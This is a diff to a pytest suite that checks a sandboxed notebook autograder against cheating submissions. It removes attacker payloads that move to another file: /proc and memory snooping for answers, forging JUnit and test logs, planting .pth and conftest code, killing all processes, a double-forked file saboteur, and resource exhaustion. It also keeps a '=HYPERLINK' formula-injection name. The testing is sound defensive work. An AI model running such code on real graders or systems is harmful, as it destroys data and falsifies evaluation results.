@@ -1,5 +1,8 @@
 """A cheating class, graded for real: every attack of issue 11 in one sandboxed run (JOBS=2).
 
+The attackers' code is in grading_cases.py (ex03's predict-then-verify Task 3.1, the diagnosis
+3.2, library Task 5.1). Attacks on the check from inside the kernel: test_grading_forgery.py.
+
 Each attacker's own answers are wrong, so any point it gets is a point the attack gained. The
 honest students are graded before and after the attackers and must keep full marks; the empty
 release scores 0; links, FIFOs and devices are refused at intake; no process outlives the run;
@@ -18,6 +21,17 @@ from pathlib import Path
 
 import nbformat
 import pytest
+from grading_cases import (
+    HOG,
+    LIB,
+    LIB_FORGE,
+    NB,
+    OUTLIVE,
+    SOLUTION_HUNT,
+    WRITE_TRUSTED,
+    WRONG_3_1,
+    WRONG_3_2,
+)
 
 from labkit.grading import grade as G
 from labkit.grading import notebooks as nbs
@@ -29,133 +43,10 @@ pytestmark = [pytest.mark.slow,
               pytest.mark.skipif(S.available() != "", reason=f"no sandbox: {S.available()}")]
 
 ROOT = Path(__file__).resolve().parents[1]
-NB = "notebooks/exercises/ex03_graph_breaks.ipynb"
-LIB = "labkit/compiler/lower.py"
 KEY = "attack-key"
 TASKS = ["3.1", "3.2", "5.1"]
 FULL = {"3.1": 2.0, "3.2": 2.0, "5.1": 3.0}
 ZERO = dict.fromkeys(TASKS, 0.0)
-
-WRONG_3_1 = '''
-def toy_example_fixed(a, b):
-    x = a / (torch.abs(a) + 1)
-    return x * b
-'''
-WRONG_3_2 = '''
-def toy_example_cond(a, b):
-    x = a / (torch.abs(a) + 1)
-    return x * torch.where(b.sum() < 0, -b, b)
-'''
-# Look for the answers anywhere: the grader's cwd/root/environ/cmdline through /proc, every
-# notebook on any readable path, the instructor tree, nbval's memory; replay what is found.
-PROC_PEEK = r'''
-import builtins, glob, json, os, re
-found = []
-for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", str(os.getppid())]:
-    for what in ("cwd", "root"):
-        for path in glob.glob(f"/proc/{pid}/{what}/**/*.ipynb", recursive=True)[:50]:
-            found.append(path)
-    for what in ("environ", "cmdline"):
-        try:
-            found += re.findall(r"/[\w./-]+\.(?:xml|ipynb|jsonl)", open(f"/proc/{pid}/{what}").read())
-        except OSError:
-            pass
-    try:
-        with open(f"/proc/{pid}/mem", "rb") as mem:
-            mem.read(16)
-            found.append(f"mem:{pid}")
-    except OSError:
-        pass
-for top in ("/", "/work", "/tmp", os.path.expanduser("~")):
-    for dirpath, dirs, files in os.walk(top):
-        if dirpath.startswith(("/proc", "/sys", "/usr")):
-            dirs[:] = []
-            continue
-        found += [os.path.join(dirpath, f) for f in files if f.endswith(".ipynb")]
-answer = None
-for path in found:
-    try:
-        for cell in json.load(open(path))["cells"]:
-            if cell.get("id") == "c3-1" and cell.get("outputs"):
-                answer = "".join(cell["outputs"][0]["text"]).rstrip("\n")
-    except Exception:
-        pass
-_print = builtins.print
-def print(*args, **kwargs):
-    if answer and args and str(args[0]).startswith("n="):
-        return _print(answer)
-    return _print(*args, **kwargs)
-builtins.print = print
-''' + WRONG_3_1
-# Write whatever the grader trusts: JUnit XML and logs (found by name anywhere), the sanitizer,
-# conftest.py and pytest.ini of the workspace, a .pth in the environment; then kill everything.
-WRITE_TRUSTED = r'''
-import os, signal, site, sys
-PASS = '<testsuites><testsuite tests="1"><testcase classname="x" name="y"/></testsuite></testsuites>'
-targets = [os.path.join(p, "evil.pth") for p in site.getsitepackages() + [sys.prefix]]
-for dirpath, dirs, files in os.walk("/"):
-    if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")):
-        dirs[:] = []
-        continue
-    targets += [os.path.join(dirpath, f) for f in files
-                if f.endswith((".xml", ".jsonl", ".cfg", ".ini", "conftest.py"))]
-    targets += [os.path.join(dirpath, "conftest.py"), os.path.join(dirpath, "nb.xml")]
-for path in targets:
-    try:
-        with open(path, "a") as fh:
-            fh.write("\nimport os; os.environ['PWNED'] = '1'\n" if path.endswith((".py", ".pth"))
-                     else PASS if path.endswith(".xml") else "\n[all]\nregex: .*\nreplace: X\n")
-    except OSError:
-        pass
-os.kill(-1, signal.SIGKILL)      # every process this user can signal
-''' + WRONG_3_1
-# Outlive the submission: a new session that keeps trying to sabotage later students' files.
-OUTLIVE = r'''
-import os, time
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
-        end = time.time() + 400
-        while time.time() < end:
-            for dirpath, dirs, files in os.walk("/tmp"):
-                for f in files:
-                    try:
-                        open(os.path.join(dirpath, f), "w").write("sabotage")
-                    except OSError:
-                        pass
-            time.sleep(0.5)
-        os._exit(0)
-    os._exit(0)
-''' + WRONG_3_1
-# Exhaust the grader: memory and output.
-HOG = r'''
-try:
-    hog = bytearray(40 << 30)
-except MemoryError:
-    pass
-import sys
-for _ in range(400):
-    sys.stdout.write("x" * (1 << 18))
-''' + WRONG_3_1
-# A library file that disables the checks and forges the transcript and JUnit files.
-LIB_FORGE = r'''
-import json, os, torch.testing
-torch.testing.assert_close = lambda *a, **k: None          # every comparison "passes"
-_log = os.environ.get("LABKIT_OBSERVE")
-if _log:
-    for name in ["test_sigmoid_lowering_builds_a_pointwise_node"] + [
-            f"test_sigmoid_lowering_matches_eager[{d}]" for d in ("dtype0", "dtype1", "dtype2")]:
-        with open(_log, "a") as fh:
-            fh.write(json.dumps({"nodeid": f"tests/test_compiler_exercises.py::{name}",
-                                 "when": "call", "outcome": "passed", "markers": ["task5_1"],
-                                 "values": []}) + "\n")
-for name in ("conftest.py", "tests/conftest.py"):
-    try:
-        open(os.path.join(os.environ["PYTHONPATH"], name), "a").write("x = 1\n")
-    except OSError:
-        pass
-'''
-
 
 def _master() -> nbformat.NotebookNode:
     return nbformat.read(str(ROOT / NB), as_version=4)
@@ -187,7 +78,7 @@ def _submissions(subs: Path) -> None:
         _put(subs / name, NB, nbformat.writes(master))
         _put(subs / name, LIB, solution)
     _put(subs / "=HYPERLINK(1)", NB, nbformat.writes(released))          # the empty release
-    for name, code in [("proc_peek", PROC_PEEK), ("write_trusted", WRITE_TRUSTED),
+    for name, code in [("proc_peek", SOLUTION_HUNT), ("write_trusted", WRITE_TRUSTED),
                        ("outlive", OUTLIVE), ("hog", HOG)]:
         _put(subs / name, NB, nbformat.writes(_with(master, t3_1=code, t3_2=WRONG_3_2)))
         _put(subs / name, LIB, stubbed)
@@ -220,7 +111,9 @@ def run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
     setup = G.prepare(ROOT, rubric, G.seed_from_key(KEY), base)
     reports = G.grade_all(setup, subs, base, jobs=2)
     write_all(reports, rubric, base / "out")
-    leftovers = [pid for slot in range(2) for pid in S.leftovers(S.uid_for(slot))]
+    boxes = [S.Sandbox(code="", scratch="", slot=slot) for slot in range(2)]
+    leftovers = [pid for b in boxes for pid in S.leftovers(b.uid) + S.cgroup_pids(b.cgroups())]
+    leftovers += [str(g) for b in boxes for g in b.cgroups() if g.exists()]
     return {"reports": {r.student: r for r in reports}, "setup": setup, "base": base, "subs": subs,
             "leftovers": leftovers, "unchanged": _digest(subs) == before, "order": reports}
 
